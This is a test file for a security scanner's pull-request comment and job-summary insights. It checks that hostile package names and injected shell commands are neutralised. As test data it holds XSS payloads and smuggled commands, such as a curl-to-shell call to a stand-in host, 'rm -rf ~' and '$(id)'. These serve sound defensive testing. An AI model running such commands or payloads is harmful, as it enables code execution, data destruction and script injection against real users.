// The PR comment / job summary's insights block: the top recommendations with how many findings each fixes, one
// compliance line per framework, the SLA breaches and the trend — hostile package names, versions and rule ids
// render inert, and the comment stays within its cap.
import { describe, expect, it } from 'vitest';
import { DEFAULT_EXTRAS } from '../../src/config/extras.js';
import type { Finding } from '../../src/findings/model.js';
import { COMMENT_MAX_CHARS } from '../../src/github/limits.js';
import { insightsFor } from '../../src/insights/index.js';
import type { TrendHistory } from '../../src/insights/types.js';
import { planUpgrades } from '../../src/remediate/upgrades.js';
import { buildReport } from '../../src/report/build.js';
import { insightsLines, RECOMMENDATION_ROWS, renderReport } from '../../src/report/markdown.js';
import type { ScanReport } from '../../src/report/types.js';
import { makeFinding, manyFindings } from '../support/report-builder.js';
import { realReport, SOURCES } from './real-report.js';

const NOW = '2026-05-01T12:00:00.000Z';
const HOSTILE = ['<img src=x onerror=alert(1)>', '@octocat', 'x](javascript:alert(1))', '`a` <b>', '[y](https://evil.example)', '#12 GH-3'];

function reportOf(findings: Finding[], history?: TrendHistory): ScanReport {
  const report = buildReport(
    [{ status: { id: 'trivy', displayName: 'Trivy', state: 'ok', durationMs: 1, rawCount: findings.length }, findings }],
    { scanners: ['trivy'], severities: ['critical', 'high', 'medium', 'low', 'info'], failOn: 'high', now: NOW },
    { repository: 'o/r', sha: 'a'.repeat(40) },
  );
  report.insights = insightsFor(report, { now: NOW, compliance: DEFAULT_EXTRAS.compliance, scanners: [], planUpgrades, ...(history ? { history } : {}) });
  return report;
}

/** The text outside code spans (GitHub renders nothing live inside one), after checking each span is well formed. */
function outsideCode(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    let n = 0;
    while (line[i + n] === '`') n++;
    const fence = '`'.repeat(n);
    const end = line.indexOf(fence, i + n);
    expect(end, `unclosed code span in ${line}`).toBeGreaterThan(i);
    // The closing fence is exactly n backticks (not part of a longer run).
    expect(line[end + n]).not.toBe('`');
    i = end + n;
    out += ' CODE ';
  }
  return out;
}

function live(text: string): string[] {
  const problems: string[] = [];
  if (text.includes('<') && !/^<\/?sub>|<sub>|<\/sub>/.test(text.replace(/<\/?sub>/g, ''))) {
    if (/<(?!\/?sub>)/.test(text)) problems.push('raw <');
  }
  if (/\]\(/.test(text)) problems.push('link');
  if (/@[A-Za-z0-9]/.test(text)) problems.push('mention');
  if (/javascript:/i.test(text)) problems.push('scheme');
  if (/(^|[^\\&])#\d/.test(text)) problems.push('issue reference');
  return problems;
}

describe('the insights block of the PR comment and job summary', () => {
  it('renders hostile package names, versions, rules and titles inert', () => {
    const findings: Finding[] = [];
    HOSTILE.forEach((name, i) => {
      findings.push(
        makeFinding({ kind: 'vulnerability', severity: 'critical', ruleId: `CVE-1-${i}`, title: name, package: { name, version: `1.0.${i}`, ecosystem: 'npm', fixedVersion: `1.0.${i + 1}` }, location: { path: 'package-lock.json' } }, i),
        makeFinding({ kind: 'vulnerability', severity: 'high', ruleId: `CVE-2-${i}`, title: name, package: { name: `${name}-nofix`, version: name, ecosystem: 'npm' } }, 100 + i),
        makeFinding({ kind: 'secret', severity: 'high', ruleId: name, title: name, location: { path: name, startLine: 3 } }, 200 + i),
        makeFinding({ kind: 'misconfiguration', severity: 'medium', ruleId: `${name}-rule`, title: name, location: { path: `${name}.tf`, startLine: 1 }, remediation: name }, 300 + i),
      );
    });
    const report = reportOf(findings);
    // Show every recommendation: no row limit hides a badly escaped one.
    const lines = insightsLines({ ...report.insights!, recommendations: report.insights!.recommendations.slice(0, RECOMMENDATION_ROWS) });
    const all = [...lines];
    for (let k = 0; k < report.insights!.recommendations.length; k += RECOMMENDATION_ROWS) {
      all.push(...insightsLines({ ...report.insights!, recommendations: report.insights!.recommendations.slice(k, k + RECOMMENDATION_ROWS) }));
    }
    expect(all.filter((l) => l.startsWith('- ')).length).toBeGreaterThan(HOSTILE.length * 3);
    for (const line of all) expect(live(outsideCode(line)), line).toEqual([]);
    // The check can fail: the raw names are live.
    for (const name of HOSTILE.slice(0, 3)) expect(live(name)).not.toEqual([]);
    // And the whole comment (verdict, tables, findings, insights) is one safe document.
    const body = renderReport(report, { maxChars: COMMENT_MAX_CHARS });
    expect(body).toContain('#### Recommendations');
    for (const line of body.split('\n')) {
      const text = outsideCode(line);
      expect(text, line).not.toMatch(/<img|\]\(javascript:|@octocat|\[y\]\(/i);
    }
  });

  it('lists the top recommendations with how many findings each fixes, then how many more are in report.html', () => {
    const report = realReport(SOURCES);
    const i = report.insights!;
    const lines = insightsLines(i);
    const start = lines.indexOf('#### Recommendations');
    const more = lines.findIndex((l) => l.startsWith('- … and '));
    const recs = lines.slice(start + 2, more);
    expect(recs).toHaveLength(RECOMMENDATION_ROWS);
    for (const l of recs) expect(l).toMatch(/^- \S+ (Upgrade|Rotate|Change|Review|No fixed version)/u);
    expect(recs).toHaveLength(RECOMMENDATION_ROWS);
    expect(lines).toContain(`- … and ${(i.recommendations.length - RECOMMENDATION_ROWS).toLocaleString('en-US')} more in report.html`);
    const top = i.recommendations[0]!;
    expect(recs[0]).toContain(`${top.findings} finding`);
    // One line per framework: its verdict and failing controls.
    for (const f of i.complianceStatus.frameworks) {
      const line = lines.find((l) => l.startsWith(`- ${f.name}: `));
      expect(line, f.name).toBeDefined();
      expect(line).toContain(f.status);
      if (f.failedControls.length) expect(line).toContain(`\`${f.failedControls[0]!.control}\``);
    }
    const breached = Object.values(i.slas.breached).reduce((n, x) => n + x, 0);
    expect(lines.join('\n')).toContain(breached > 0 ? `**SLA:** ${breached.toLocaleString('en-US')} findings past due` : '**SLA:** none past due');
    console.log(lines.join('\n'));
  });

  it('shows the trend and the delta against the base branch when there is one', () => {
    const history: TrendHistory = {
      points: [
        { at: '2026-04-01T00:00:00.000Z', counts: { critical: 1, high: 2, medium: 0, low: 0, info: 0 }, total: 3 },
        { at: '2026-04-02T00:00:00.000Z', counts: { critical: 0, high: 1, medium: 0, low: 0, info: 0 }, total: 1 },
      ],
    };
    const f = [makeFinding({ severity: 'high' }, 1), makeFinding({ severity: 'low' }, 2)];
    const report = reportOf(f, history);
    const text = insightsLines(report.insights).join('\n');
    expect(text).toContain('**Trend** (last 2 default-branch runs, oldest first): 3 → 1 → 2 now');
    expect(reportOf(f).insights!.trends.available).toBe(false);
    expect(insightsLines(reportOf(f).insights).join('\n')).not.toContain('**Trend**');
  });

  it('keeps the comment within its cap with the insights block, at 5,000 findings and at a tight budget', () => {
    const findings = manyFindings(5_000).map((f, i) => (i % 7 === 0 ? { ...f, package: { ...f.package!, name: `${'<img onerror=x>'.repeat(20)}-${i}` } } : f));
    const report = reportOf(findings);
    for (const max of [COMMENT_MAX_CHARS, 20_000, 6_000]) {
      const body = renderReport(report, { maxChars: max });
      expect(body.length, `cap ${max}`).toBeLessThanOrEqual(max);
      expect(body).toContain('#### Recommendations');
    }
    // The job summary's unit: UTF-8 bytes (the block's icons and arrows are multi-byte).
    const summary = renderReport(report, { maxChars: 20_000, unit: 'utf8' });
    expect(Buffer.byteLength(summary, 'utf8')).toBeLessThanOrEqual(20_000);
    expect(summary).toContain('#### Recommendations');
  });
});

describe('the upgrade command a recommendation suggests', () => {
  it('is offered only for plain package names and versions (a copied command never runs something else)', () => {
    const pkg = (name: string, fixedVersion: string, n: number) => makeFinding({ kind: 'vulnerability', severity: 'high', package: { name, version: '1.0.0', ecosystem: 'npm', fixedVersion } }, n);
    const recs = reportOf([pkg('@scope/ok-name', '1.2.3', 1), pkg('x; curl evil.example | sh', '1.2.3', 2), pkg('fine', '1.2.3 && rm -rf ~', 3), pkg('$(id)', '2.0.0', 4)]).insights!.recommendations;
    const byName = new Map(recs.filter((r) => r.upgrade).map((r) => [r.upgrade!.package, r.command]));
    expect(byName.get('@scope/ok-name')).toBe('npm install @scope/ok-name@1.2.3');
    expect(byName.get('x; curl evil.example | sh')).toBeUndefined();
    expect(byName.get('$(id)')).toBeUndefined();
    for (const r of recs) if (r.command && r.action === 'upgrade') expect(r.command).toMatch(/^npm install [A-Za-z0-9@/._+:~-]+$/);
  });
});
